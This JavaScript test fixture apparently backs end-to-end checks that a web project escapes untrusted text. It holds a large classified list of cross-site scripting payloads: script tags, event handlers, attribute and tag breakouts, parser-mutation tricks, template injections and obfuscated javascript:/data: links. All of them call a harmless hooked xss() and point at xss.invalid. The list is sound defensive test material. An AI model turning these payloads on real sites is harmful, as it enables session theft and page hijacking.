// Texts that would run as a script wherever one is put into a page unescaped: a list of our own, one or more of
// every published class. Each calls `xss()`, which the trap of `hostile.mjs` has hooked.

/** Elements that run something by themselves. */
const elements = [
  "<script>xss()</script>",
  "<ScRiPt>xss()</sCrIpT>",
  "<script/x>xss()</script>",
  "<script>xss()//",
  "<<script>xss();//<</script>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<script src=https://xss.invalid/x.js></script>",
  "<script src=//xss.invalid/x.js></script>",
  "<img src=x onerror=xss()>",
  '<img src="x" onerror="xss()">',
  "<img src=x onerror='xss()'//",
  "<img/src=x/onerror=xss()>",
  "<image src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<svg/onload=xss()>",
  "<svg><script>xss()</script></svg>",
  "<svg><animate onbegin=xss() attributeName=x dur=1s>",
  '<svg><a xlink:href="javascript:xss()"><text y=9>x</text></a></svg>',
  "<body onload=xss()>",
  "<iframe src=javascript:xss()></iframe>",
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  "<object data=javascript:xss()></object>",
  "<embed src=javascript:xss()>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<details open ontoggle=xss()>",
  "<input autofocus onfocus=xss()>",
  "<select autofocus onfocus=xss()></select>",
  "<marquee onstart=xss()>",
  "<style>@import'https://xss.invalid/x.css';</style>",
  "<link rel=stylesheet href=https://xss.invalid/x.css>",
  "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
  "<base href=https://xss.invalid/>",
  "<form action=javascript:xss()><button>x</button></form>",
  "<math><mi xlink:href=javascript:xss()>x</mi></math>",
];

/** Out of an attribute, a title, a comment, a textarea, JSON in a script element. */
const breakouts = [
  '"><script>xss()</script>',
  "'><script>xss()</script>",
  '" onmouseover="xss()" autofocus onfocus="xss()" x="',
  "' onmouseover='xss()' autofocus onfocus='xss()' x='",
  "` onmouseover=`xss()` autofocus onfocus=`xss()`",
  "</title><script>xss()</script>",
  "</textarea><script>xss()</script>",
  "</style><script>xss()</script>",
  "</noscript><script>xss()</script>",
  "</template><script>xss()</script>",
  "</script><script>xss()</script>",
  "--><script>xss()</script>",
  "<!--<script>xss()</script>",
  "]]><script>xss()</script>",
  '","x":"</script><img src=x onerror=xss()>',
  '\\";xss();//',
  "';xss();//",
  "\u2028xss()\u2029//",
];

/** Changed by the parser into something else, or read by a template. */
const mutations = [
  "<noscript><p title='</noscript><img src=x onerror=xss()>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=xss()&gt;'>",
  "<svg></p><style><a id='</style><img src=x onerror=xss()>'>",
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
  "&lt;img src=x onerror=xss()&gt;",
  "&#60;img src=x onerror=xss()&#62;",
  "%3Cimg%20src%3Dx%20onerror%3Dxss()%3E",
  "\\u003cimg src=x onerror=xss()\\u003e",
  "＜img src=x onerror=xss()＞",
  "{{constructor.constructor('xss()')()}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text itself is meant
  "${xss()}",
  "#{xss()}",
  "<%= xss() %>",
];

/** Where an address is expected. */
export const hostileAddresses = [
  "javascript:xss()",
  "JaVaScRiPt:xss()",
  "java\tscript:xss()",
  " javascript:xss()",
  "javascript://%0axss()",
  "data:text/html,<script>parent.xss()</script>",
  "vbscript:xss()",
  "//xss.invalid/",
  "\\\\xss.invalid/",
  "/\\xss.invalid/",
  "https:xss.invalid",
  "https://xss.invalid/",
];

export const hostileTexts = [...elements, ...breakouts, ...mutations, ...hostileAddresses];

/** Those that a file may bring: no control characters, as everywhere. */
export const fileTexts = hostileTexts.filter((text) => !/[\p{Cc}\u2028\u2029]/u.test(text));

/**
 * Of texts that each take a page of their own: all with FIELDHOUSE_E2E_MATRIX=all, otherwise every fourth, which are
 * some of every class.
 */
export function sampled(texts) {
  return process.env.FIELDHOUSE_E2E_MATRIX === "all" ? texts : texts.filter((_, index) => index % 4 === 0);
}

/** The same scripts in the guises a browser sees through: entities, capitals, what it drops from an address. */
export const hostileLinks = [
  "java&#9;script:xss()",
  "java&Tab;script:xss()",
  "jav&#x0A;ascript:xss()",
  "&#106;avascript:xss()",
  "&#x6A&#x61&#x76&#x61script:xss()",
  "javascript&colon;xss()",
  "JAVASCRIPT&#58;xss()",
  "&#1;javascript:xss()",
  "DaTa:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg onload=xss()>",
  "VbScRiPt:xss()",
  "view-source:javascript:xss()",
  "blob:https://xss.invalid/x",
  "filesystem:https://xss.invalid/x",
];

/** The list in pieces that fit a field. */
export function hostileTextsOf(length) {
  const pieces = [""];
  for (const text of hostileTexts.filter((one) => one.length <= length)) {
    const last = pieces.length - 1;
    if (pieces[last].length + text.length + 1 <= length) pieces[last] = `${pieces[last]} ${text}`.trim();
    else pieces.push(text);
  }
  return pieces;
}
